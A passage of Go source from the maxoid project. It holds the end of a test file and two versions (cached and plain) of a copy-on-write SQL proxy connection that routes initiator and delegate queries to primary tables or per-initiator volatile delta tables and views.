		t.Fatal(err)
	}
	if _, err := del.Insert("words", map[string]sqldb.Value{"word": "y", "frequency": int64(0)}); err != nil {
		t.Fatal(err)
	}
	vol, err := p.For("").QueryVolatile("words", "appA", "")
	if err != nil || len(vol.Data) != 2 {
		t.Fatalf("volatile rows = %v, %v", vol, err)
	}
	if err := p.DiscardVolatile("appA"); err != nil {
		t.Fatal(err)
	}
	vol, err = p.For("").QueryVolatile("words", "appA", "")
	if err != nil || len(vol.Data) != 0 {
		t.Errorf("after discard: %v, %v", vol, err)
	}
	// Delegate view falls back to public rows.
	rows, _ := del.Query("words", []string{"word"}, "_id = 1", "")
	if rows.Data[0][0] == "x" {
		t.Error("volatile row survived discard")
	}
	// Discarding an initiator with no volatile state is a no-op.
	if err := p.DiscardVolatile("nobody"); err != nil {
		t.Errorf("empty discard: %v", err)
	}
}

func TestInsertVolatileByInitiator(t *testing.T) {
	p := newWordsProxy(t, 1)
	pub := p.For("")
	id, err := pub.InsertVolatile("words", "browser", map[string]sqldb.Value{"word": "incognito", "frequency": int64(0)})
	if err != nil {
		t.Fatal(err)
	}
	if id < DeltaKeyBase {
		t.Errorf("volatile insert id = %d", id)
	}
	// Public view does not include it.
	rows, _ := pub.Query("words", []string{"word"}, "", "")
	if len(rows.Data) != 1 {
		t.Errorf("public rows = %d, want 1", len(rows.Data))
	}
	// Browser's delegates see it.
	rows, _ = p.For("browser").Query("words", []string{"word"}, "word = 'incognito'", "")
	if len(rows.Data) != 1 {
		t.Error("delegate cannot see initiator's volatile record")
	}
	if _, err := pub.InsertVolatile("words", "", nil); err == nil {
		t.Error("InsertVolatile with empty initiator should fail")
	}
}

func TestAdminView(t *testing.T) {
	p := newWordsProxy(t, 2)
	del := p.For("appA")
	if _, err := del.Update("words", map[string]sqldb.Value{"word": "volatile-row"}, "_id = 1"); err != nil {
		t.Fatal(err)
	}
	rows, err := p.For("").QueryAdmin("words", "")
	if err != nil {
		t.Fatal(err)
	}
	var public, volatile int
	originIdx := indexOfFold(rows.Columns, "_origin")
	if originIdx < 0 {
		t.Fatalf("admin view columns: %v", rows.Columns)
	}
	for _, row := range rows.Data {
		if sqldb.AsString(row[originIdx]) == "" {
			public++
		} else if sqldb.AsString(row[originIdx]) == "appA" {
			volatile++
		}
	}
	if public != 2 || volatile != 1 {
		t.Errorf("admin view: public=%d volatile=%d", public, volatile)
	}
	// Admin view works with no deltas at all.
	p2 := newWordsProxy(t, 1)
	rows, err = p2.For("").QueryAdmin("words", "")
	if err != nil || len(rows.Data) != 1 {
		t.Errorf("admin without deltas: %v, %v", rows, err)
	}
}

func TestUserDefinedViewHierarchy(t *testing.T) {
	// Media-style: files base table; images view; recent_images view on
	// top of images (a view over a view, Figure 5).
	db := sqldb.Open()
	if _, err := db.Exec("CREATE TABLE files (_id INTEGER PRIMARY KEY, media_type INTEGER, title TEXT, date_added INTEGER)"); err != nil {
		t.Fatal(err)
	}
	p := New(db)
	if err := p.RegisterTable("files"); err != nil {
		t.Fatal(err)
	}
	if err := p.RegisterUserView("images", "SELECT _id, title, date_added FROM files WHERE media_type = 1"); err != nil {
		t.Fatal(err)
	}
	if err := p.RegisterUserView("recent_images", "SELECT _id, title FROM images WHERE date_added > 100"); err != nil {
		t.Fatal(err)
	}
	pub := p.For("")
	for i, f := range []struct {
		mt    int64
		title string
		date  int64
	}{{1, "old.jpg", 50}, {1, "new.jpg", 200}, {2, "song.mp3", 300}} {
		if _, err := pub.Insert("files", map[string]sqldb.Value{
			"media_type": f.mt, "title": f.title, "date_added": f.date,
		}); err != nil {
			t.Fatalf("insert %d: %v", i, err)
		}
	}

	// Public hierarchy works.
	rows, err := pub.Query("recent_images", []string{"title"}, "", "")
	if err != nil || len(rows.Data) != 1 || rows.Data[0][0] != "new.jpg" {
		t.Fatalf("public recent_images: %v, %v", rows, err)
	}

	// Delegate inserts an image; it must appear through the COW views of
	// both levels of the hierarchy.
	del := p.For("camera")
	if _, err := del.Insert("files", map[string]sqldb.Value{
		"media_type": int64(1), "title": "private.jpg", "date_added": int64(500),
	}); err != nil {
		t.Fatal(err)
	}
	rows, err = del.Query("recent_images", []string{"title"}, "", "title")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows.Data) != 2 || rows.Data[0][0] != "new.jpg" || rows.Data[1][0] != "private.jpg" {
		t.Errorf("delegate recent_images: %v", rows.Data)
	}
	// Public view of the hierarchy is unaffected.
	rows, _ = pub.Query("recent_images", []string{"title"}, "", "")
	if len(rows.Data) != 1 {
		t.Errorf("public hierarchy polluted: %v", rows.Data)
	}
	// Discard removes the whole per-initiator view hierarchy.
	if err := p.DiscardVolatile("camera"); err != nil {
		t.Fatal(err)
	}
	rows, err = del.Query("recent_images", []string{"title"}, "", "")
	if err != nil || len(rows.Data) != 1 {
		t.Errorf("after discard: %v, %v", rows, err)
	}
}

func TestUnknownTableErrors(t *testing.T) {
	p := New(sqldb.Open())
	if _, err := p.For("").Query("nope", nil, "", ""); err == nil {
		t.Error("query unknown table should fail")
	}
	if _, err := p.For("x").Insert("nope", nil); err == nil {
		t.Error("insert unknown table should fail")
	}
	if err := p.RegisterTable("nope"); err == nil {
		t.Error("register unknown table should fail")
	}
	if err := p.RegisterUserView("v", "SELECT * FROM nope"); err == nil {
		t.Error("register view with unknown dep should fail")
	}
}

// TestFootnote5Workaround: querying a COW view with ORDER BY on a
// non-selected column still flattens because the proxy adds the ORDER BY
// column to the query columns and strips it from the result.
func TestFootnote5Workaround(t *testing.T) {
	p := newWordsProxy(t, 5)
	del := p.For("appA")
	// Force delta creation so the COW view exists.
	if _, err := del.Update("words", map[string]sqldb.Value{"word": "zz"}, "_id = 1"); err != nil {
		t.Fatal(err)
	}
	before := p.DB().Stats()
	rows, err := del.Query("words", []string{"word"}, "", "frequency DESC")
	if err != nil {
		t.Fatal(err)
	}
	after := p.DB().Stats()
	if len(rows.Columns) != 1 || rows.Columns[0] != "word" {
		t.Errorf("extra ORDER BY column leaked into result: %v", rows.Columns)
	}
	if after.FlattenedQueries != before.FlattenedQueries+1 {
		t.Errorf("workaround did not flatten: %+v -> %+v", before, after)
	}
	if len(rows.Data) != 5 {
		t.Errorf("rows = %d, want 5", len(rows.Data))
	}
}
