package cowproxy

import (
	"fmt"
	"sort"
	"strings"
	"sync"

	"maxoid/internal/sqldb"
)

// Conn is a view-selected handle on the proxied database: the proxy
// "uses a Maxoid API to get information about the calling process ...
// then selects the correct Maxoid view" (§5.2). Content providers
// obtain a Conn per request via Proxy.For and use it exactly like a
// SQLite handle (U3 transparency: delegates use normal table names).
type Conn struct {
	p *Proxy
	// initiator is empty for callers that are initiators (operate on
	// primary tables) and the initiator's package for delegates
	// (operate on COW views).
	initiator string

	// Resolved-target caches, so steady-state operations skip the
	// proxy-wide mutex and the name re-derivation. gen records the
	// proxy generation the caches were built at; DiscardVolatile bumps
	// the generation, which empties them on next use.
	mu      sync.RWMutex
	gen     int64
	targets map[string]string       // lowercase table -> query/update target
	inserts map[string]insertTarget // lowercase table -> insert routing
	sqls    map[string]string       // rendered INSERT statements
	queries map[string]queryPlan    // rendered SELECT statements
	updates map[string]updatePlan   // rendered UPDATE statements
}

// insertTarget is the memoized routing decision for Conn.Insert.
type insertTarget struct {
	table string // table to insert into (primary or delta)
	delta bool   // delta insert: add _whiteout and use OR REPLACE
}

// queryPlan is a memoized rendered SELECT plus the count of ORDER BY
// columns appended to the projection that must be trimmed from results.
type queryPlan struct {
	sql   string
	extra int
}

// updatePlan is a memoized rendered UPDATE plus the column order its
// SET-clause placeholders expect values in.
type updatePlan struct {
	sql  string
	cols []string
}

// cachedTarget returns the memoized query/update target for key.
func (c *Conn) cachedTarget(key string) (string, bool) {
	gen := c.p.gen.Load()
	c.mu.RLock()
	defer c.mu.RUnlock()
	if c.gen != gen {
		return "", false
	}
	v, ok := c.targets[key]
	return v, ok
}

// cachedInsert returns the memoized insert routing for key.
func (c *Conn) cachedInsert(key string) (insertTarget, bool) {
	gen := c.p.gen.Load()
	c.mu.RLock()
	defer c.mu.RUnlock()
	if c.gen != gen {
		return insertTarget{}, false
	}
	v, ok := c.inserts[key]
	return v, ok
}

// resetIfStale empties the caches when the proxy generation moved.
// Caller holds c.mu.
func (c *Conn) resetIfStale() {
	gen := c.p.gen.Load()
	if c.gen != gen {
		c.targets = nil
		c.inserts = nil
		c.sqls = nil
		c.queries = nil
		c.updates = nil
		c.gen = gen
	}
}

// cachedQuery returns the memoized rendered SELECT for key. The key is
// raw bytes so the hot path indexes the map without materializing a
// string; string(key) in a map index compiles to an allocation-free
// lookup.
func (c *Conn) cachedQuery(key []byte) (queryPlan, bool) {
	gen := c.p.gen.Load()
	c.mu.RLock()
	defer c.mu.RUnlock()
	if c.gen != gen {
		return queryPlan{}, false
	}
	v, ok := c.queries[string(key)]
	return v, ok
}

func (c *Conn) storeQuery(key string, qp queryPlan) {
	c.mu.Lock()
	c.resetIfStale()
	if c.queries == nil {
		c.queries = make(map[string]queryPlan)
	}
	c.queries[key] = qp
	c.mu.Unlock()
}

// cachedUpdate returns the memoized rendered UPDATE for key (raw
// bytes, like cachedQuery, for an allocation-free lookup).
func (c *Conn) cachedUpdate(key []byte) (updatePlan, bool) {
	gen := c.p.gen.Load()
	c.mu.RLock()
	defer c.mu.RUnlock()
	if c.gen != gen {
		return updatePlan{}, false
	}
	v, ok := c.updates[string(key)]
	return v, ok
}

func (c *Conn) storeUpdate(key string, up updatePlan) {
	c.mu.Lock()
	c.resetIfStale()
	if c.updates == nil {
		c.updates = make(map[string]updatePlan)
	}
	c.updates[key] = up
	c.mu.Unlock()
}

func (c *Conn) storeTarget(key, val string) {
	c.mu.Lock()
	c.resetIfStale()
	if c.targets == nil {
		c.targets = make(map[string]string)
	}
	c.targets[key] = val
	c.mu.Unlock()
}

func (c *Conn) storeInsert(key string, val insertTarget) {
	c.mu.Lock()
	c.resetIfStale()
	if c.inserts == nil {
		c.inserts = make(map[string]insertTarget)
	}
	c.inserts[key] = val
	c.mu.Unlock()
}

// For returns a connection for a caller. Pass "" for initiators (and
// for providers' own administrative work on public state); pass the
// initiator package for a delegate of that initiator.
func (p *Proxy) For(initiator string) *Conn {
	p.mu.Lock()
	defer p.mu.Unlock()
	if c, ok := p.conns[initiator]; ok {
		return c
	}
	c := &Conn{p: p, initiator: initiator}
	if p.conns == nil {
		p.conns = make(map[string]*Conn)
	}
	p.conns[initiator] = c
	return c
}

// target resolves the table/view name this connection must operate on,
// creating delta tables and COW views on demand for delegates.
func (c *Conn) target(table string) (string, error) {
	key := strings.ToLower(table)
	if t, ok := c.cachedTarget(key); ok {
		return t, nil
	}
	t, err := c.targetSlow(key, table)
	if err == nil {
		c.storeTarget(key, t)
	}
	return t, err
}

func (c *Conn) targetSlow(key, table string) (string, error) {
	c.p.mu.Lock()
	defer c.p.mu.Unlock()
	if info, ok := c.p.primaries[key]; ok {
		if c.initiator == "" {
			return info.name, nil
		}
		if err := c.p.ensureDelta(info, c.initiator); err != nil {
			return "", err
		}
		return COWViewName(info.name, c.initiator), nil
	}
	if v, ok := c.p.userViews[key]; ok {
		if c.initiator == "" {
			return v.name, nil
		}
		if err := c.p.ensureUserViewCOW(v, c.initiator); err != nil {
			return "", err
		}
		return COWViewName(v.name, c.initiator), nil
	}
	return "", fmt.Errorf("%w: %s", ErrUnknownTable, table)
}

// sortedCols returns values' column names sorted for deterministic SQL
// (miss-path only: hot paths sort into pooled scratch instead).
func sortedCols(values map[string]sqldb.Value) []string {
	cols := make([]string, 0, len(values))
	for k := range values {
		cols = append(cols, k)
	}
	sort.Strings(cols)
	return cols
}

// connScratch is the per-call scratch of the hot render paths
// (Insert/Update/Query): column lists, argument vectors, and memo-key
// bytes. Conns are shared across goroutines (Proxy.For memoizes them),
// so scratch is pooled per call rather than hung off the Conn. Nothing
// handed to sqldb retains these slices: argument values are copied into
// the executor's own buffer before execution.
type connScratch struct {
	cols []string
	args []sqldb.Value
	key  []byte
}

var connScratchPool = sync.Pool{New: func() any { return new(connScratch) }}

func getScratch() *connScratch { return connScratchPool.Get().(*connScratch) }

// putScratch recycles sc, dropping value references so the pool pins
// nothing between calls.
func putScratch(sc *connScratch) {
	clear(sc.args)
	sc.cols, sc.args, sc.key = sc.cols[:0], sc.args[:0], sc.key[:0]
	connScratchPool.Put(sc)
}

// Insert inserts a row and returns its primary key. For initiators the
// row goes to the primary table; for delegates it goes to the delta
// table with a key allocated from DeltaKeyBase up.
func (c *Conn) Insert(table string, values map[string]sqldb.Value) (int64, error) {
	key := strings.ToLower(table)
	tgt, ok := c.cachedInsert(key)
	if !ok {
		c.p.mu.Lock()
		info, isPrimary := c.p.primaries[key]
		if !isPrimary {
			c.p.mu.Unlock()
			return 0, fmt.Errorf("%w: %s", ErrUnknownTable, table)
		}
		if c.initiator == "" {
			tgt = insertTarget{table: info.name}
		} else {
			if err := c.p.ensureDelta(info, c.initiator); err != nil {
				c.p.mu.Unlock()
				return 0, err
			}
			tgt = insertTarget{table: DeltaTableName(info.name, c.initiator), delta: true}
		}
		c.p.mu.Unlock()
		c.storeInsert(key, tgt)
	}
	if !tgt.delta {
		return c.insertInto(tgt.table, values, "", nil, "")
	}
	// Keys for new volatile rows auto-increment from DeltaKeyBase: the
	// delta table's allocator was seeded at creation, so no MAX() scan
	// is needed here. _whiteout rides along as a trailing column rather
	// than through a copied map.
	return c.insertInto(tgt.table, values, "_whiteout", int64(0), "OR REPLACE")
}

// InsertVolatile inserts a row directly into the initiator's own
// volatile state — the isVolatile API initiators use for incognito
// downloads (§6.1 API 4). The connection's initiator field is empty for
// initiators, so the target initiator is explicit.
func (c *Conn) InsertVolatile(table, initiator string, values map[string]sqldb.Value) (int64, error) {
	if initiator == "" {
		return 0, fmt.Errorf("cowproxy: InsertVolatile requires an initiator")
	}
	return c.p.For(initiator).Insert(table, values)
}

// insertInto renders and executes an INSERT. The rendered SQL is
// memoized per (table, column set, conflict clause) so steady-state
// inserts reuse one string (and, downstream, one cached AST and plan).
// extraCol, when non-empty, is appended after the sorted columns with
// extraVal as its argument — the delta path's _whiteout marker.
func (c *Conn) insertInto(table string, values map[string]sqldb.Value, extraCol string, extraVal sqldb.Value, conflict string) (int64, error) {
	sc := getScratch()
	defer putScratch(sc)
	cols := sc.cols[:0]
	for k := range values {
		cols = append(cols, k)
	}
	sort.Strings(cols)
	args := sc.args[:0]
	for _, col := range cols {
		args = append(args, values[col])
	}
	if extraCol != "" {
		cols = append(cols, extraCol)
		args = append(args, extraVal)
	}
	key := append(sc.key[:0], table...)
	key = append(key, 0)
	key = append(key, conflict...)
	key = append(key, 0)
	for i, col := range cols {
		if i > 0 {
			key = append(key, ',')
		}
		key = append(key, col...)
	}
	sc.cols, sc.args, sc.key = cols, args, key
	gen := c.p.gen.Load()
	c.mu.RLock()
	sql, ok := "", false
	if c.gen == gen {
		sql, ok = c.sqls[string(key)]
	}
	c.mu.RUnlock()
	if !ok {
		sql = renderInsert(table, cols, conflict)
		c.mu.Lock()
		c.resetIfStale()
		if c.sqls == nil {
			c.sqls = make(map[string]string)
		}
		c.sqls[string(key)] = sql
		c.mu.Unlock()
	}
	res, err := c.p.db.Exec(sql, args...)
	if err != nil {
		return 0, err
	}
	return res.LastInsertID, nil
}

func renderInsert(table string, cols []string, conflict string) string {
	placeholders := make([]string, len(cols))
	for i := range placeholders {
		placeholders[i] = "?"
	}
	verb := "INSERT"
	if conflict != "" {
		verb = "INSERT " + conflict
	}
	return fmt.Sprintf("%s INTO %s (%s) VALUES (%s)",
		verb, table, strings.Join(cols, ", "), strings.Join(placeholders, ", "))
}

// Update updates rows matching the where clause, returning the number
// affected. Delegate updates are redirected to the delta table by the
// COW view's INSTEAD OF trigger.
func (c *Conn) Update(table string, values map[string]sqldb.Value, where string, args ...sqldb.Value) (int64, error) {
	sc := getScratch()
	defer putScratch(sc)
	key := append(sc.key[:0], table...)
	key = append(key, 0)
	key = append(key, where...)
	sc.key = key
	up, ok := c.cachedUpdate(key)
	if !ok || !colsMatch(up.cols, values) {
		target, err := c.target(table)
		if err != nil {
			return 0, err
		}
		cols := sortedCols(values)
		var b strings.Builder
		b.WriteString("UPDATE ")
		b.WriteString(target)
		b.WriteString(" SET ")
		for i, col := range cols {
			if i > 0 {
				b.WriteString(", ")
			}
			b.WriteString(col)
			b.WriteString(" = ?")
		}
		if where != "" {
			b.WriteString(" WHERE ")
			b.WriteString(where)
		}
		up = updatePlan{sql: b.String(), cols: cols}
		c.storeUpdate(string(key), up)
	}
	setArgs := sc.args[:0]
	for _, col := range up.cols {
		setArgs = append(setArgs, values[col])
	}
	setArgs = append(setArgs, args...)
	sc.args = setArgs
	res, err := c.p.db.Exec(up.sql, setArgs...)
	if err != nil {
		return 0, err
	}
	return res.RowsAffected, nil
}

// colsMatch reports whether values assigns exactly the columns a cached
// update plan was rendered for (the common steady-state case); a
// mismatch re-renders and overwrites the cache entry.
func colsMatch(cols []string, values map[string]sqldb.Value) bool {
	if len(cols) != len(values) {
		return false
	}
	for _, col := range cols {
		if _, ok := values[col]; !ok {
			return false
		}
	}
	return true
}

// Delete deletes rows matching the where clause. For delegates the COW
// view's trigger emulates deletion with whiteout records.
func (c *Conn) Delete(table string, where string, args ...sqldb.Value) (int64, error) {
	target, err := c.target(table)
	if err != nil {
		return 0, err
	}
	sql := "DELETE FROM " + target
	if where != "" {
		sql += " WHERE " + where
	}
	res, err := c.p.db.Exec(sql, args...)
	if err != nil {
		return 0, err
	}
	return res.RowsAffected, nil
}

// Query runs a select over the caller's view of the table. As the
// paper's footnote 5 explains, SQLite 3.8.6 only flattens a UNION ALL
// view under ORDER BY when the ORDER BY columns are included in the
// query columns, so "our proxy adds ORDER BY columns to query columns
// when necessary"; the extra columns are dropped from the result.
func (c *Conn) Query(table string, columns []string, where string, orderBy string, args ...sqldb.Value) (*sqldb.Rows, error) {
	sc := getScratch()
	defer putScratch(sc)
	key := queryKeyInto(sc.key[:0], table, columns, where, orderBy)
	sc.key = key
	qp, ok := c.cachedQuery(key)
	if !ok {
		var err error
		qp, err = c.renderQuery(table, columns, where, orderBy)
		if err != nil {
			return nil, err
		}
		c.storeQuery(string(key), qp)
	}
	rows, err := c.p.db.Query(qp.sql, args...)
	if err != nil {
		return nil, err
	}
	if qp.extra > 0 {
		rows.Columns = rows.Columns[:len(rows.Columns)-qp.extra]
		for i := range rows.Data {
			rows.Data[i] = rows.Data[i][:len(rows.Data[i])-qp.extra]
		}
	}
	return rows, nil
}

// queryKeyInto appends the memo key for a Query call to buf; the hot
// path looks it up without ever materializing a string.
func queryKeyInto(buf []byte, table string, columns []string, where, orderBy string) []byte {
	buf = append(buf, table...)
	buf = append(buf, 0)
	buf = append(buf, where...)
	buf = append(buf, 0)
	buf = append(buf, orderBy...)
	for _, col := range columns {
		buf = append(buf, 0)
		buf = append(buf, col...)
	}
	return buf
}

// renderQuery resolves the caller's view of table and renders the
// SELECT once; Query memoizes the result per connection.
func (c *Conn) renderQuery(table string, columns []string, where, orderBy string) (queryPlan, error) {
	target, err := c.target(table)
	if err != nil {
		return queryPlan{}, err
	}
	extra := 0
	colSQL := "*"
	if len(columns) > 0 {
		queryCols := append([]string{}, columns...)
		if orderBy != "" {
			for _, oc := range orderByColumns(orderBy) {
				if indexOfFold(queryCols, oc) < 0 {
					queryCols = append(queryCols, oc)
					extra++
				}
			}
		}
		colSQL = strings.Join(queryCols, ", ")
	}
	sql := "SELECT " + colSQL + " FROM " + target
	if where != "" {
		sql += " WHERE " + where
	}
	if orderBy != "" {
		sql += " ORDER BY " + orderBy
	}
	return queryPlan{sql: sql, extra: extra}, nil
}

// Explain renders the caller's view of the query exactly as Query
// would — same target resolution, same footnote-5 column padding —
// and runs the planner only. Remote clients use it to inspect the
// access path chosen for *their* view without touching data.
func (c *Conn) Explain(table string, columns []string, where, orderBy string, args ...sqldb.Value) (*sqldb.Rows, error) {
	qp, err := c.renderQuery(table, columns, where, orderBy)
	if err != nil {
		return nil, err
	}
	return c.p.db.Query("EXPLAIN "+qp.sql, args...)
}

// QueryVolatile returns rows from the initiator's volatile state of a
// table — what the tmp URIs expose (§5.1). Whiteout records are
// included with their _whiteout flag so initiators can audit deletions.
func (c *Conn) QueryVolatile(table, initiator string, where string, args ...sqldb.Value) (*sqldb.Rows, error) {
	key := strings.ToLower(table)
	c.p.mu.Lock()
	info, ok := c.p.primaries[key]
	hasDelta := ok && c.p.deltas[key][initiator]
	c.p.mu.Unlock()
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrUnknownTable, table)
	}
	if !hasDelta {
		return &sqldb.Rows{}, nil
	}
	sql := "SELECT * FROM " + DeltaTableName(info.name, initiator)
	if where != "" {
		sql += " WHERE " + where
	}
	return c.p.db.Query(sql, args...)
}

// QueryAdmin runs a select over the administrative view of a table,
// which includes an _origin column (” for public rows, the initiator
// package for volatile rows) and the _whiteout flag.
func (c *Conn) QueryAdmin(table string, where string, args ...sqldb.Value) (*sqldb.Rows, error) {
	key := strings.ToLower(table)
	c.p.mu.Lock()
	info, ok := c.p.primaries[key]
	if ok && c.p.deltas[key] == nil {
		// No deltas yet: make sure the admin view exists.
		if err := c.p.rebuildAdminView(info); err != nil {
			c.p.mu.Unlock()
			return nil, err
		}
		c.p.deltas[key] = make(map[string]bool)
	}
	c.p.mu.Unlock()
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrUnknownTable, table)
	}
	sql := "SELECT * FROM " + adminViewName(info.name)
	if where != "" {
		sql += " WHERE " + where
	}
	return c.p.db.Query(sql, args...)
}

// orderByColumns extracts plain column names from an ORDER BY clause.
func orderByColumns(orderBy string) []string {
	var out []string
	for _, term := range strings.Split(orderBy, ",") {
		fields := strings.Fields(strings.TrimSpace(term))
		if len(fields) == 0 {
			continue
		}
		col := fields[0]
		// Skip expressions and numeric indexes; only bare identifiers
		// need the footnote-5 workaround.
		if strings.ContainsAny(col, "()+-*/%'\"") {
			continue
		}
		if col >= "0" && col <= "99999" {
			continue
		}
		out = append(out, col)
	}
	return out
}

func indexOfFold(list []string, s string) int {
	for i, x := range list {
		if strings.EqualFold(x, s) {
			return i
		}
	}
	return -1
}
