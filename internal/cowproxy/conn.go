package cowproxy

import (
	"fmt"
	"sort"
	"strings"

	"maxoid/internal/sqldb"
)

// Conn is a view-selected handle on the proxied database: the proxy
// "uses a Maxoid API to get information about the calling process ...
// then selects the correct Maxoid view" (§5.2). Content providers
// obtain a Conn per request via Proxy.For and use it exactly like a
// SQLite handle (U3 transparency: delegates use normal table names).
type Conn struct {
	p *Proxy
	// initiator is empty for callers that are initiators (operate on
	// primary tables) and the initiator's package for delegates
	// (operate on COW views).
	initiator string
}

// For returns a connection for a caller. Pass "" for initiators (and
// for providers' own administrative work on public state); pass the
// initiator package for a delegate of that initiator.
func (p *Proxy) For(initiator string) *Conn {
	return &Conn{p: p, initiator: initiator}
}

// target resolves the table/view name this connection must operate on,
// creating delta tables and COW views on demand for delegates.
func (c *Conn) target(table string) (string, error) {
	key := strings.ToLower(table)
	c.p.mu.Lock()
	defer c.p.mu.Unlock()
	if info, ok := c.p.primaries[key]; ok {
		if c.initiator == "" {
			return info.name, nil
		}
		if err := c.p.ensureDelta(info, c.initiator); err != nil {
			return "", err
		}
		return COWViewName(info.name, c.initiator), nil
	}
	if v, ok := c.p.userViews[key]; ok {
		if c.initiator == "" {
			return v.name, nil
		}
		if err := c.p.ensureUserViewCOW(v, c.initiator); err != nil {
			return "", err
		}
		return COWViewName(v.name, c.initiator), nil
	}
	return "", fmt.Errorf("%w: %s", ErrUnknownTable, table)
}

// sortedCols returns values' column names sorted for deterministic SQL.
func sortedCols(values map[string]sqldb.Value) []string {
	cols := make([]string, 0, len(values))
	for k := range values {
		cols = append(cols, k)
	}
	sort.Strings(cols)
	return cols
}

// Insert inserts a row and returns its primary key. For initiators the
// row goes to the primary table; for delegates it goes to the delta
// table with a key allocated from DeltaKeyBase up.
func (c *Conn) Insert(table string, values map[string]sqldb.Value) (int64, error) {
	key := strings.ToLower(table)
	c.p.mu.Lock()
	info, isPrimary := c.p.primaries[key]
	c.p.mu.Unlock()
	if !isPrimary {
		return 0, fmt.Errorf("%w: %s", ErrUnknownTable, table)
	}
	if c.initiator == "" {
		return insertInto(c.p.db, info.name, values, "")
	}
	c.p.mu.Lock()
	err := c.p.ensureDelta(info, c.initiator)
	c.p.mu.Unlock()
	if err != nil {
		return 0, err
	}
	delta := DeltaTableName(info.name, c.initiator)
	// Keys for new volatile rows auto-increment from DeltaKeyBase: the
	// delta table's allocator was seeded at creation, so no MAX() scan
	// is needed here.
	values = withValue(values, "_whiteout", int64(0))
	return insertInto(c.p.db, delta, values, "OR REPLACE")
}

// InsertVolatile inserts a row directly into the initiator's own
// volatile state — the isVolatile API initiators use for incognito
// downloads (§6.1 API 4). The connection's initiator field is empty for
// initiators, so the target initiator is explicit.
func (c *Conn) InsertVolatile(table, initiator string, values map[string]sqldb.Value) (int64, error) {
	if initiator == "" {
		return 0, fmt.Errorf("cowproxy: InsertVolatile requires an initiator")
	}
	d := &Conn{p: c.p, initiator: initiator}
	return d.Insert(table, values)
}

func withValue(values map[string]sqldb.Value, col string, v sqldb.Value) map[string]sqldb.Value {
	out := make(map[string]sqldb.Value, len(values)+1)
	for k, val := range values {
		out[k] = val
	}
	out[col] = v
	return out
}

func insertInto(db *sqldb.DB, table string, values map[string]sqldb.Value, conflict string) (int64, error) {
	cols := sortedCols(values)
	placeholders := make([]string, len(cols))
	args := make([]sqldb.Value, len(cols))
	for i, col := range cols {
		placeholders[i] = "?"
		args[i] = values[col]
	}
	verb := "INSERT"
	if conflict != "" {
		verb = "INSERT " + conflict
	}
	sql := fmt.Sprintf("%s INTO %s (%s) VALUES (%s)",
		verb, table, strings.Join(cols, ", "), strings.Join(placeholders, ", "))
	res, err := db.Exec(sql, args...)
	if err != nil {
		return 0, err
	}
	return res.LastInsertID, nil
}

// Update updates rows matching the where clause, returning the number
// affected. Delegate updates are redirected to the delta table by the
// COW view's INSTEAD OF trigger.
func (c *Conn) Update(table string, values map[string]sqldb.Value, where string, args ...sqldb.Value) (int64, error) {
	target, err := c.target(table)
	if err != nil {
		return 0, err
	}
	cols := sortedCols(values)
	sets := make([]string, len(cols))
	setArgs := make([]sqldb.Value, 0, len(cols)+len(args))
	for i, col := range cols {
		sets[i] = col + " = ?"
		setArgs = append(setArgs, values[col])
	}
	setArgs = append(setArgs, args...)
	sql := fmt.Sprintf("UPDATE %s SET %s", target, strings.Join(sets, ", "))
	if where != "" {
		sql += " WHERE " + where
	}
	res, err := c.p.db.Exec(sql, setArgs...)
	if err != nil {
		return 0, err
	}
	return res.RowsAffected, nil
}

// Delete deletes rows matching the where clause. For delegates the COW
// view's trigger emulates deletion with whiteout records.
func (c *Conn) Delete(table string, where string, args ...sqldb.Value) (int64, error) {
	target, err := c.target(table)
	if err != nil {
		return 0, err
	}
	sql := "DELETE FROM " + target
	if where != "" {
		sql += " WHERE " + where
	}
	res, err := c.p.db.Exec(sql, args...)
	if err != nil {
		return 0, err
	}
	return res.RowsAffected, nil
}

// Query runs a select over the caller's view of the table. As the
// paper's footnote 5 explains, SQLite 3.8.6 only flattens a UNION ALL
// view under ORDER BY when the ORDER BY columns are included in the
// query columns, so "our proxy adds ORDER BY columns to query columns
// when necessary"; the extra columns are dropped from the result.
func (c *Conn) Query(table string, columns []string, where string, orderBy string, args ...sqldb.Value) (*sqldb.Rows, error) {
	target, err := c.target(table)
	if err != nil {
		return nil, err
	}
	extra := 0
	colSQL := "*"
	if len(columns) > 0 {
		queryCols := append([]string{}, columns...)
		if orderBy != "" {
			for _, oc := range orderByColumns(orderBy) {
				if indexOfFold(queryCols, oc) < 0 {
					queryCols = append(queryCols, oc)
					extra++
				}
			}
		}
		colSQL = strings.Join(queryCols, ", ")
	}
	sql := fmt.Sprintf("SELECT %s FROM %s", colSQL, target)
	if where != "" {
		sql += " WHERE " + where
	}
	if orderBy != "" {
		sql += " ORDER BY " + orderBy
	}
	rows, err := c.p.db.Query(sql, args...)
	if err != nil {
		return nil, err
	}
	if extra > 0 {
		rows.Columns = rows.Columns[:len(rows.Columns)-extra]
		for i := range rows.Data {
			rows.Data[i] = rows.Data[i][:len(rows.Data[i])-extra]
		}
	}
	return rows, nil
}

// QueryVolatile returns rows from the initiator's volatile state of a
// table — what the tmp URIs expose (§5.1). Whiteout records are
// included with their _whiteout flag so initiators can audit deletions.
func (c *Conn) QueryVolatile(table, initiator string, where string, args ...sqldb.Value) (*sqldb.Rows, error) {
	key := strings.ToLower(table)
	c.p.mu.Lock()
	info, ok := c.p.primaries[key]
	hasDelta := ok && c.p.deltas[key][initiator]
	c.p.mu.Unlock()
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrUnknownTable, table)
	}
	if !hasDelta {
		return &sqldb.Rows{}, nil
	}
	sql := "SELECT * FROM " + DeltaTableName(info.name, initiator)
	if where != "" {
		sql += " WHERE " + where
	}
	return c.p.db.Query(sql, args...)
}

// QueryAdmin runs a select over the administrative view of a table,
// which includes an _origin column (” for public rows, the initiator
// package for volatile rows) and the _whiteout flag.
func (c *Conn) QueryAdmin(table string, where string, args ...sqldb.Value) (*sqldb.Rows, error) {
	key := strings.ToLower(table)
	c.p.mu.Lock()
	info, ok := c.p.primaries[key]
	if ok && c.p.deltas[key] == nil {
		// No deltas yet: make sure the admin view exists.
		if err := c.p.rebuildAdminView(info); err != nil {
			c.p.mu.Unlock()
			return nil, err
		}
		c.p.deltas[key] = make(map[string]bool)
	}
	c.p.mu.Unlock()
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrUnknownTable, table)
	}
	sql := "SELECT * FROM " + adminViewName(info.name)
	if where != "" {
		sql += " WHERE " + where
	}
